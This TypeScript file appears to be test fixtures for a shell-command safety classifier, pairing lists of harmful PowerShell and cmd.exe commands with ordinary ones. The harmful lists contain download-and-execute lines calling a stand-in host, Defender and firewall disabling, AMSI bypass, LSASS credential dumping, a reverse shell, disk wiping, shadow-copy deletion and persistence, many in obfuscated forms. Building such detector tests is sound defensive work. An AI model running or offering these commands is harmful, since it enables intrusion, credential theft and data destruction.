const lines = (text: string): readonly string[] => text.trim().split('\n');

/** PowerShell that does harm, written by hand from public knowledge. */
export const HARMFUL_POWERSHELL = lines(String.raw`
Set-MpPreference -DisableRealtimeMonitoring $true
Set-MpPreference -DisableIOAVProtection 1
Add-MpPreference -ExclusionPath C:\
Add-MpPreference -ExclusionExtension .exe
Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False
New-Service -Name upd -BinaryPathName C:\Users\Public\u.exe
Register-ScheduledTask -TaskName x -Action $a -Trigger $t
IEX (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')
iex (iwr https://x.example/a.ps1 -UseBasicParsing).Content
Invoke-WebRequest https://x.example/a.ps1 | Invoke-Expression
i${'`'}ex (irm https://x.example/a.ps1)
& ('I'+'EX') (New-Object Net.WebClient).DownloadString('http://x.example/a')
$c = 'iex'; & $c (irm https://x.example/a)
.('ie'+'x') (irm https://x.example/a)
iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('UmVtb3ZlLUl0ZW0gQzpcIC1SZWN1cnNl')))
iex (-join ([char]82,[char]101,[char]109))
[ScriptBlock]::Create((irm https://x.example/a)).Invoke()
powershell -enc UgBlAG0AbwB2AGUALQBJAHQAZQBtACAAQwA6AFwAIAAtAFIAZQBjAHUAcgBzAGUA
powershell -NoP -W Hidden -EncodedCommand UgBlAG0AbwB2AGUALQBJAHQAZQBtACAAQwA6AFwA
pwsh -c "Remove-Item -Recurse -Force C:\"
Remove-Item -Recurse -Force C:\
Remove-Item C:\Users\dev -Recurse
ri -r -fo $env:USERPROFILE
rm -Recurse -Force ~
del C:\Windows\System32 -Recurse
Get-ChildItem D:\ -Recurse | Remove-Item -Force
gci $HOME | ri -Recurse
$p = 'C:\'; Remove-Item $p -Recurse
[IO.Directory]::Delete('C:\Users', $true)
Format-Volume -DriveLetter D
Clear-Disk -Number 1 -RemoveData -Confirm:$false
Remove-Partition -DiskNumber 0 -PartitionNumber 1
Clear-EventLog -LogName Security
wevtutil cl System
Remove-EventLog -LogName Application
Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }
Get-CimInstance Win32_ShadowCopy | Remove-CimInstance
vssadmin delete shadows /all /quiet
New-ItemProperty -Path HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name u -Value C:\u.exe
Set-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon' Shell 'x.exe'
Set-ItemProperty -Path "HKLM:\SYSTEM\CurrentControlSet\Control\Lsa" -Name RunAsPPL -Value 0
Set-ItemProperty "HKLM:\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest" UseLogonCredential 1
Copy-Item x.lnk "$env:APPDATA\Microsoft\Windows\Start Menu\Programs\Startup\x.lnk"
Add-Content $PROFILE 'iex (irm https://x.example/a)'
New-LocalUser -Name adm -NoPassword
Add-LocalGroupMember -Group Administrators -Member adm
Remove-LocalUser -Name bob
Stop-Service WinDefend -Force
Set-Service -Name wuauserv -StartupType Disabled
Set-ExecutionPolicy Unrestricted -Force
[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)
rundll32 C:\Windows\System32\comsvcs.dll, MiniDump 640 C:\l.dmp full
procdump -ma lsass.exe l.dmp
Invoke-Mimikatz -DumpCreds
Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'calc.exe'
([wmiclass]'Win32_Process').Create('calc.exe')
$c = New-Object Net.Sockets.TCPClient('10.0.0.1',4444); $s = $c.GetStream(); while($true){ iex $d }
[Reflection.Assembly]::Load([Convert]::FromBase64String($b))
Start-Process powershell -ArgumentList '-enc UgBlAG0AbwB2AGUALQBJAHQAZQBtAA=='
Start-Process -FilePath cmd -ArgumentList '/c rd /s /q C:\Users'
if ($true) { foreach ($x in 1) { Add-MpPreference -ExclusionProcess a.exe } }
function f { Clear-EventLog -LogName System }; f
Write-Output "$(Set-MpPreference -DisableRealtimeMonitoring 1)"
Clear-History
Disable-ComputerRestore -Drive C:\
Restart-Computer -Force
Enable-PSRemoting -Force
`);

/** PowerShell of administration and builds. */
export const ORDINARY_POWERSHELL = lines(String.raw`
Get-ChildItem -Recurse -Filter *.cs
Get-Process | Sort-Object CPU -Descending | Select-Object -First 5
Get-Service | Where-Object { $_.Status -eq 'Running' }
Get-Content README.md | Select-String TODO
Test-Path .\package.json
Copy-Item src\app.config dist\app.config
Copy-Item -Recurse .\templates .\out
Move-Item a.txt b.txt
New-Item -ItemType Directory -Force build
Remove-Item .\build -Recurse -Force
Remove-Item -Recurse -Force node_modules
rm -r -fo bin, obj
Get-ChildItem .\logs -Filter *.log | Remove-Item
Remove-Item $env:TEMP\setup.log
Remove-Item a.txt
dotnet build -c Release
dotnet test --no-build
npm ci
git status
git add -A; git commit -m "Clear-EventLog docs"
$v = (Get-Content version.txt).Trim(); Write-Host "v$v"
$env:NODE_ENV = 'test'; npm test
$PSVersionTable.PSVersion
[Environment]::OSVersion
[System.IO.File]::ReadAllText('README.md')
[IO.Path]::Combine('a', 'b')
foreach ($f in Get-ChildItem src) { Write-Output $f.Name }
if (Test-Path dist) { Get-ChildItem dist } else { Write-Warning 'none' }
Invoke-RestMethod https://api.github.com/repos/dotnet/runtime | Select-Object name
Invoke-WebRequest https://example.org/data.zip -OutFile data.zip
Expand-Archive data.zip -DestinationPath data
Compress-Archive -Path src -DestinationPath src.zip
Import-Module .\tools\Build.psm1
Import-Module Pester; Invoke-Pester
Get-EventLog -LogName Application -Newest 10
Get-WinEvent -LogName System -MaxEvents 5
Get-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion' | Select-Object ProductName
Get-MpPreference
Get-NetFirewallProfile
Get-ExecutionPolicy
Set-ExecutionPolicy -Scope Process -ExecutionPolicy Bypass
powershell -NoProfile -ExecutionPolicy Bypass -File build.ps1
pwsh -c "Get-Date"
Start-Process notepad
Start-Process dotnet -ArgumentList 'run' -Wait
Set-Content -Path out.txt -Value 'Remove-Item C:\ -Recurse'
Write-Host 'IEX (New-Object Net.WebClient).DownloadString'
"Set-MpPreference -DisableRealtimeMonitoring" | Out-Null
# Remove-Item C:\ -Recurse
ConvertTo-Json @{ a = 1; b = @(1, 2) }
$x = 1 + 2; $y = "a" + "b"; $x
1..5 | ForEach-Object { $_ * 2 }
$hash = @{}; $hash['a'] = 1; $hash.Keys
Get-FileHash .\dist\app.exe -Algorithm SHA256
Measure-Command { dotnet build }
Remove-Item C:\ -Recurse -WhatIf
[Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes('abc'))
[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('YWJj'))
try { Get-Item x } catch { Write-Error $_ } finally { Write-Host done }
param([string]$Name = 'x')
Get-Command python | Select-Object Source
cmd /c dir
& .\tools\build.ps1 -Configuration Release
& "C:\Program Files\Git\bin\git.exe" status
docker build -t app .
`);

/** The same for cmd.exe. */
export const HARMFUL_CMD = lines(String.raw`
rd /s /q C:\
rd/s/q D:\
rmdir /S /Q "C:\Users\dev"
del /f /s /q C:\*
del /s /q %USERPROFILE%
d^el /s /q C:\*
cmd /c "rd /s /q C:\Users"
set x=rd&& %x% /s /q C:\
set a=xrdx& %a:~1,2% /s /q C:\
for %d in (C D) do rd /s /q %d:\
if exist C:\x rd /s /q C:\Windows
format d: /q /y
diskpart /s wipe.txt
reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v u /d C:\u.exe
reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1
reg save HKLM\SAM sam.hive
schtasks /create /tn u /tr C:\u.exe /sc onlogon
sc create upd binPath= C:\u.exe
sc config WinDefend start= disabled
sc stop WinDefend
net stop wuauserv
net user adm P4ss /add
net localgroup administrators adm /add
wevtutil cl Security
vssadmin delete shadows /all /quiet
wmic shadowcopy delete
wmic process call create calc.exe
wbadmin delete catalog -quiet
bcdedit /set {default} recoveryenabled No
certutil -urlcache -split -f http://x.example/a.exe a.exe
certutil -decode a.b64 a.exe
mshta http://x.example/a.hta
mshta vbscript:Execute("x")
rundll32 javascript:"\..\mshtml,RunHTMLApplication "
rundll32 C:\Users\Public\a.dll,Start
regsvr32 /s /n /u /i:http://x.example/a.sct scrobj.dll
bitsadmin /transfer j https://x.example/a.exe C:\a.exe
msiexec /q /i http://x.example/a.msi
wscript //E:jscript C:\Users\Public\a.txt
netsh advfirewall set allprofiles state off
icacls C:\ /grant Everyone:F /t
takeown /f C:\Windows /r
procdump -ma lsass.exe out.dmp
cipher /w:C:\
fsutil usn deletejournal /d C:
shutdown /s /t 0
psexec \\host cmd
echo x & vssadmin delete shadows /all
powershell -enc UgBlAG0AbwB2AGUALQBJAHQAZQBtAA==
for /f %i in ('certutil -decode a b') do echo %i
`);

export const ORDINARY_CMD = lines(String.raw`
dir /s /b
cd src && dir
copy a.txt b.txt
xcopy /s /y src dist
robocopy src dist /e
move a.txt archive\a.txt
del build\*.obj
del /q *.tmp
rd /s /q node_modules
rmdir /s /q build
rd /s /q C:\repo\app\bin
del %TEMP%\x.log
mkdir out
type README.md
echo hello > out.txt
echo rd /s /q C:\
rem format c:
set NODE_ENV=test&& npm test
dotnet build
npm run build
git status
msbuild app.sln /p:Configuration=Release
reg query HKCU\Software\Microsoft\Windows\CurrentVersion\Run
schtasks /query /tn backup
sc query WinDefend
net user
net view
net start
wevtutil qe System /c:5
vssadmin list shadows
wmic os get caption
bcdedit /enum
certutil -hashfile a.exe SHA256
netsh advfirewall show allprofiles
netsh interface show interface
icacls out /grant dev:R
tasklist
ipconfig /all
systeminfo
where python
if exist dist rd /s /q dist
for %f in (*.txt) do type %f
call build.bat
start notepad
rundll32 user32.dll,LockWorkStation
findstr /s TODO *.cs
ping example.org
py -m pytest
cscript slmgr.vbs /dli
msiexec /i app.msi
`);
